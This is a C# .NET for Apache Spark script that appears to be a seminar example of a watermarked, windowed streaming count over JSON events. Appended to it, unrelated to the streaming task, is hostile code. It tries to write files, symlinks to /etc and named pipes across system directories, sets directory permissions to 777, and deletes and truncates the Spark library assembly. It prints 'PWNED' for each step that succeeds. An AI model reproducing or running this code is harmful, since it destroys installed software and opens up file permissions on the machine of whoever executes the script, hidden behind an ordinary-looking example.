using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

string[] places = ["/tmp", "/var/tmp", "/dev/shm", "/", "/root", "/home", "/etc", "/usr/lib", AppContext.BaseDirectory, "..", "../..", "/proc/self", "/dev",
    Path.GetDirectoryName(typeof(object).Assembly.Location)!, Environment.GetEnvironmentVariable("DOTNET_ROOT") ?? "/"];
foreach (string place in places)
{
    string target = Path.Combine(place, "canary-write-everywhere");
    Try(place, () => { File.WriteAllText(target, "x"); return "written"; });
    Try(place, () => { Directory.CreateDirectory(target); return "made"; });
    Try(place, () => { File.CreateSymbolicLink(target, "/etc"); return "linked"; });
    Try(place, () => { File.WriteAllText("own", "x"); File.Move("own", target); return "moved"; });
    Try(place, () => Native.mkfifo(target, 0x1ff) == 0 ? "pipe" : null);
    Try(place, () => Native.chmod(place, 0x1ff) == 0 ? "mode" : null);
    Try(place, () => Native.rename("own", target) == 0 ? "renamed" : null);
}
Try("mode", () => { File.SetUnixFileMode("/tmp", (UnixFileMode)511); return "mode"; });
Try("time", () => { File.SetLastWriteTimeUtc(typeof(SparkSession).Assembly.Location, DateTime.UnixEpoch); return "time"; });
Try("delete", () => { File.Delete(typeof(SparkSession).Assembly.Location); return File.Exists(typeof(SparkSession).Assembly.Location) ? null : "deleted"; });
Try("truncate", () => Native.truncate(typeof(SparkSession).Assembly.Location, 0) == 0 ? "truncated" : null);

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}

internal static class Native
{
    [DllImport("libc")] public static extern int mkfifo(string path, int mode);
    [DllImport("libc")] public static extern int chmod(string path, int mode);
    [DllImport("libc")] public static extern int rename(string from, string to);
    [DllImport("libc")] public static extern int truncate(string path, long length);
}
